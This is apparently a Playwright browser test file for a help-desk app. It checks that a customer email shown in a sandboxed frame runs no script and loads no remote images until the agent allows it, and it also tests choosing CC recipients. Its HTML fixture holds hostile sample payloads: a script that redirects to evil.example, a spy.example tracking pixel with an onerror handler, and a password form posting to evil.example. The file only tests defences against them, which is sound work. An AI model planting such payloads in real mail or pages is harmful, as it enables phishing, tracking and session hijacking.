"""In a real browser: a mail that would like to act, in the frame that lets it do nothing."""

import pytest
from playwright.sync_api import expect
from sqlalchemy import select

from app.conversations.models import Conversation, Status
from app.core import db, events
from app.messaging import pace, switch
from app.messaging.service import intake, understanding
from app.wiring import IN_TRANSACTION
from channels.port import Inbound, Media
from tests.chromium import picture
from tests.factories.identity import StaffFactory
from tests.fakes import call_of, fake_provider, said
from tests.messaging.conftest import inbox_of
from tests.messaging.test_mail import PNG
from tests.serving import serving
from tests.windows import window

__all__ = ["window"]  # a fixture

pytestmark = pytest.mark.browser
PAGE = """
<p>Hola, adjunto la <b>captura</b> del error que me sale:</p><img src="cid:shot@x" alt="captura">
<p style="color:#b91c1c;position:fixed;top:0">Me urge</p>
<script>document.title = "taken over"; top.location = "https://evil.example"</script>
<img src="https://spy.example/1.gif" alt="" width="1" height="1" onerror="alert(1)">
<form action="https://evil.example"><input name="password"></form>
<blockquote>El lunes escribiste: ya lo vemos.</blockquote>
"""


@pytest.fixture
def address(own_application, monkeypatch):
    """The application on a port, with one mail that came. Cookies without a prefix."""
    app = own_application(public_url="http://desk.test", sockets_url="http://localhost:1")
    events._tables = events.Tables(in_transaction=IN_TRANSACTION)
    for module, name in ((switch, "_opened"), (intake, "_doors"), (pace, "_plugged")):
        monkeypatch.setattr(module, name, {})
    provider, channel = fake_provider("email", subjects=True, longest=100_000)
    monkeypatch.setattr(switch, "_providers", {("email", "fake"): provider})
    mail = Inbound(
        "<a@x>", "valeria@example.com", "", "Hola, adjunto la captura del error que me sale.",
        name="Valeria Soto", subject="No abre la app", html=PAGE,
        media=(Media("image/png", "captura.png", PNG, content_id="shot@x"),),
        copied=("hijo@example.com", "contador@example.com"),
    )  # fmt: skip
    monkeypatch.setattr(channel, "read", lambda _call: (mail,))
    understanding.read(intake.keep(intake.door_of(inbox_of("email").key), call_of(said("x"))))
    with serving(app) as address:
        yield address


@pytest.fixture
def page(window):
    """The conversation, open at the agent who owns it."""
    staff = StaffFactory(name="Ana Ruiz", language="en")
    talk = db.session.scalars(select(Conversation)).one()
    talk.status, talk.assignee_id = Status.OPEN, staff.id
    shown = window(staff)
    shown.asked = []
    shown.on("request", lambda request: shown.asked.append(request.url))
    shown.goto(f"/desk/conversations/{talk.id}")
    return shown


def test_a_mail_does_nothing_and_loads_nothing_until_it_is_asked_to(page):
    page.get_by_role("button", name="Show the whole mail").click()
    frame = page.frame_locator(".mail-frame")
    expect(frame.get_by_text("Me urge")).to_be_visible()
    captured = frame.get_by_alt_text("captura")
    expect(captured).to_be_visible()
    expect(captured).to_have_js_property("naturalWidth", 1)
    picture(page, "mail")
    assert not [each for each in page.asked if "spy.example" in each]

    with page.expect_request(lambda request: "spy.example" in request.url):
        page.get_by_role("button", name="Show the pictures").click()
    expect(frame.get_by_text("Me urge")).to_be_visible()
    expect(page.get_by_role("button", name="Show the pictures")).to_have_count(0)
    assert not [each for each in page.asked if "evil.example" in each]
    assert "taken over" not in page.title()


def test_whom_the_customer_had_on_copy_is_offered_and_chosen(page):
    page.get_by_text("Nobody on copy").click()
    page.get_by_role("button", name="hijo@example.com").click()

    expect(page.locator(".channel-copies summary")).to_contain_text("Copy to: hijo@example.com")
    page.get_by_label("Another address on copy").fill("jefe@example.com")
    page.get_by_role("button", name="Put on copy").click()
    expect(page.locator(".channel-copies summary")).to_contain_text("jefe@example.com")
    picture(page, "copies")
    page.set_viewport_size({"width": 360, "height": 780})
    picture(page, "copies-small")
    wide = page.evaluate("document.documentElement.scrollWidth")
    assert wide <= 360
